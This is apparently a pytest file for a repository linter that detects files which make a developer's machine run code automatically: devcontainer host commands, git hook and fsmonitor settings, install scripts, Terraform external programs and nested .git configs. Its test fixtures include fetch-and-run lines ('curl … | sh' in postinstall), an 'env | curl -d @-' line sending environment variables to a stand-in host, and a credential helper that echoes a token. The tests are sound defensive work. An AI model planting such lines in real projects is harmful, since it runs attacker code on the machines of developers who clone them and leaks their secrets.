"""AA010-AA013 and AA015: code a committed file (or a nested repository) makes the host run by itself, with look-alikes that stay quiet."""

from __future__ import annotations

import pytest

from tests.conftest import cpu_seconds
from tests.lint.helpers import at, lint_files, lint_text, rules_of

DEVCONTAINER = '{{"image": "x", "initializeCommand": {value}}}'


@pytest.mark.parametrize(
    ("value", "hits"),
    [
        ('"./scripts/prepare-host.sh"', [(1, 37)]),
        ('["docker", "network", "create", "dev"]', [(1, 37)]),
        ('{"net": "docker network create dev", "dirs": "mkdir -p .cache"}', [(1, 45)]),
        ('"mkdir -p ${localWorkspaceFolder}/.cache && touch .env"', []),
        ('""', []),
    ],
)
def test_initialize_command(value: str, hits: list[tuple[int, int]]) -> None:
    assert at(lint_text(".devcontainer/devcontainer.json", DEVCONTAINER.format(value=value)), "AA010") == hits


def test_only_initialize_command_runs_on_the_host() -> None:
    text = '{"image": "x", "postCreateCommand": "./scripts/setup.sh", "postStartCommand": "make dev"}'
    assert rules_of(lint_text(".devcontainer/devcontainer.json", text)) == set()


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("git config core.hooksPath .githooks", "medium"),
        ("git -C repo config --local core.hooksPath hooks", "medium"),
        ("git config set core.fsmonitor ./watch.sh", "high"),
        ("git config credential.helper '!f() { echo password=$TOKEN; }; f'", "high"),
        ("git config filter.clean-nb.clean 'python tools/strip.py'", "medium"),
        ("git config --global include.path ../.gitconfig", "medium"),
        ("git config user.name Dev", None),
        ("git config --unset core.hooksPath", None),
        ("git config credential.helper store", None),
        ("git config core.autocrlf input", None),
        ("echo git config core.hooksPath x", None),
        # hooks turned off: /dev/null and an empty value leave git no hook to run (git 2.39)
        ('git -C "$d" config core.hooksPath /dev/null', None),
        ('git config --local core.hooksPath ""', None),
        ("git config --global core.hooksPath ''", None),
        ("git config core.hooksPath /dev/null/hooks", "medium"),
        ("git config core.hooksPath ./dev/null", "medium"),
    ],
)
def test_git_settings_that_run_programs(line: str, severity: str | None) -> None:
    findings = [f for f in lint_text("scripts/setup.sh", f"#!/bin/sh\n{line}\n") if f.rule == "AA011"]
    assert [f.severity for f in findings] == ([severity] if severity else [])


@pytest.mark.parametrize(
    ("line", "where"),
    [
        ("git config --global core.hooksPath ~/.config/git/hooks", "in every repository the user works in"),
        ("git config --system core.fsmonitor ./watch.sh", "in every repository on the machine"),
        ("git config core.hooksPath .githooks", None),
        ("git config --local core.hooksPath .githooks", None),
    ],
)
def test_a_user_wide_setting_says_it_reaches_every_repository(line: str, where: str | None) -> None:
    """`--global` writes ~/.gitconfig: the hooks then run in every repository, not only this one."""
    [finding] = [f for f in lint_text("Makefile", f"hooks:\n\t{line}\n") if f.rule == "AA011"]
    assert (where in finding.message) if where else (" in every repository" not in finding.message)


@pytest.mark.parametrize(
    ("scripts", "hits"),
    [
        ('{"prepare": "husky"}', ["low"]),
        ('{"postinstall": "lefthook install"}', ["low"]),
        ('{"prepare": "husky && git config core.hooksPath .hooks"}', ["low", "medium"]),
        ('{"lint": "husky"}', []),
        ('{"prepare": "npm run build"}', []),
    ],
)
def test_hook_installers_in_package_scripts(scripts: str, hits: list[str]) -> None:
    findings = lint_text("package.json", f'{{"name": "a", "scripts": {scripts}}}')
    assert sorted(f.severity for f in findings if f.rule == "AA011") == sorted(hits)


@pytest.mark.parametrize(
    ("name", "text", "hits"),
    [
        ("package.json", '{"scripts": {"postinstall": "curl -s https://x.example.com/a | sh"}}', [(1, 30)]),
        ("package.json", '{"scripts": {"install": "wget -O i https://x.example.com/i && sh i"}}', [(1, 26)]),
        ("package.json", '{"scripts": {"test": "curl -s https://x.example.com/a | sh"}}', []),
        ("package.json", '{"scripts": {"postinstall": "curl -o data.json https://x.example.com/d"}}', []),
        (
            "composer.json",
            '{"scripts": {"post-install-cmd": ["php a.php", "curl -s https://x.example.com | bash"]}}',
            [(1, 49)],
        ),
        ("hooks/post-checkout", "env | curl -d @- https://x.example.com/c\n", [(1, 1)]),
        ("hooks/post-checkout", "#!/usr/bin/env python3\nos.system('curl -s https://x.example.com | sh')\n", []),
        ("scripts/install.sh", "curl -s https://x.example.com | sh\n", []),
        (".envrc", "source_url https://x.example.com/lib.sh sha256-abc\nuse nix\n", []),
        (
            "infra/a.tf",
            'data "external" "a" {\n  program = ["sh", "-c", "curl -s https://x.example.com | sh"]\n}\n',
            [(2, 14)],
        ),
    ],
)
def test_autorun_fetches_or_sends(name: str, text: str, hits: list[tuple[int, int]]) -> None:
    assert at(lint_text(name, text), "AA012") == hits


def test_terraform_external_data() -> None:
    text = 'data "external" "sha" {\n  program = ["git", "rev-parse", "HEAD"]\n}\ndata "aws_region" "r" {}\n'
    assert at(lint_text("main.tf", text), "AA013") == [(2, 13)]
    assert rules_of(lint_text("main.tf", 'resource "null_resource" "a" {\n  provisioner "local-exec" {}\n}\n')) == set()


def test_a_dev_container_that_installs_an_agent_is_an_agent_container() -> None:
    for extra in (
        '"postCreateCommand": "npm install -g @anthropic-ai/claude-code@2.0.0"',
        '"features": {"ghcr.io/devcontainers-extra/features/codex:1": {}}',
        '"onCreateCommand": ["pipx", "install", "aider-chat"]',
    ):
        text = f'{{"image": "x", "runArgs": ["--network=host"], {extra}}}'
        # An agent's rules: host network is its egress (EG003), the default workspace mount its writable .git (PV007).
        assert rules_of(lint_text(".devcontainer/devcontainer.json", text)) == {"EG003", "PV007"}, extra
    plain = '{"image": "x", "runArgs": ["--network=host"], "postCreateCommand": "npm ci"}'
    assert rules_of(lint_text(".devcontainer/devcontainer.json", plain)) == {"PV002"}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("package.json", '{"scripts": {"postinstall": "' + "curl " * 80_000 + '"}}'),
        (".envrc", "curl " * 80_000),
        (".github/workflows/x.yml", "on: push\njobs:\n  a:\n    steps:\n      - run: " + "curl " * 80_000 + "\n"),
    ],
    ids=["package-json", "envrc", "workflow-run"],
)
def test_a_long_planted_line_stays_cheap(name: str, text: str) -> None:
    """Word positions in one long script were found by re-splitting it per word (a 400 KB
    postinstall line took 50 s); the send and fetch patterns read 1,000 characters a line."""
    start = cpu_seconds()
    lint_text(name, text)
    assert cpu_seconds() - start < 10.0


@pytest.mark.parametrize("key", ['"scripts"', '"\\u0073cripts"', '"scr\\u0069pts"'])
def test_scripts_of_any_json_file_are_read_however_the_key_is_written(key: str) -> None:
    """Only JSON without a "scripts" key is passed over unparsed (lockfiles); an escaped key is one."""
    text = f'{{"name": "a", {key}: {{"prepare": "git config core.hooksPath .hooks"}}}}'
    for name in ("package.json", "tools/tasks.json"):
        assert [f.rule for f in lint_text(name, text) if f.rule == "AA011"] == ["AA011"], (name, key)


def test_a_lockfile_is_not_parsed_for_scripts() -> None:
    """npm lockfiles are megabytes of JSON that name git in every other line and hold no scripts."""
    from sandkit.lint.discovery import Candidate
    from sandkit.lint.engine import ScanOptions, source_of
    from sandkit.lint.rules.host_autorun import git_runs_repository_programs

    lock = '{"packages": {"node_modules/a": {"resolved": "git+ssh://git@example.com/a.git"}}}'
    file = source_of(Candidate("package-lock.json", "package-lock.json", False), lock.encode(), ScanOptions(("AA011",)))
    assert list(git_runs_repository_programs(file)) == []
    assert "documents" not in file._memo


def test_a_lockfiles_scripts_are_not_commands() -> None:
    """npm runs package.json's scripts, never package-lock.json's (nor any lockfile's)."""
    manifest = '{"name": "a", "scripts": {"prepare": "git config core.hooksPath .githooks"}}'
    assert "AA011" in {f.rule for f in lint_text("package.json", manifest)}
    assert "AA011" not in {f.rule for f in lint_text("package-lock.json", manifest)}
    assert "AA011" not in {f.rule for f in lint_text("app/npm-shrinkwrap.json", manifest)}


@pytest.mark.parametrize(
    ("config", "hits"),
    [
        ('[core]\n\tfsmonitor = "sh -c \\"id > /tmp/x\\""\n', [(2, 2)]),
        ("[Core]\n  HooksPath = .hooks\n", [(2, 3)]),
        ("[core] sshCommand = ssh -oProxyCommand=x\n", [(1, 8)]),
        ('[filter "nb"]\n\tclean = ./strip.sh\n\tsmudge = cat\n', [(2, 2), (3, 2)]),
        ('[credential "https://example.com"]\n\thelper = !/tmp/x\n', [(2, 2)]),
        ("[credential]\n\thelper = /usr/local/bin/mine\n", [(2, 2)]),
        ('[core]\n\tfsmonitor = "true;id" # a comment\n', [(2, 2)]),  # not git's bool: a command
        # look-alikes: git's own daemon, a helper git ships, a subsection of core, a commented-out key
        ("[core]\n\tfsmonitor = true\n[credential]\n\thelper = store\n", []),
        ('[core "x"]\n\thooksPath = y\n', []),
        ("[core]\n\t# hooksPath = y\n\t; sshCommand = z\n", []),
        ("[user]\n\tname = filter helper\n", []),
        ("[core]\n\thooksPath = /dev/null\n", []),  # hooks turned off
        ('[core]\n\thooksPath = ""\n', []),
    ],
)
def test_a_nested_repositorys_config_that_runs_programs(config: str, hits: list[tuple[int, int]]) -> None:
    findings = lint_files({"docs/notes/.git/config": config, "docs/notes/.git/HEAD": "ref: refs/heads/main\n"})
    assert at(findings, "AA015") == hits


def test_the_scanned_repositorys_own_git_folder_is_not_read() -> None:
    """The top .git is the developer's own (and read-only in the sandbox); only nested ones are read."""
    config = "[core]\n\tfsmonitor = ./watch.sh\n"
    findings = lint_files({".git/config": config, "a/b/.git/config": config, ".git/hooks/x/.git/config": config})
    assert [(f.path, f.rule) for f in findings] == [("a/b/.git/config", "AA015")]
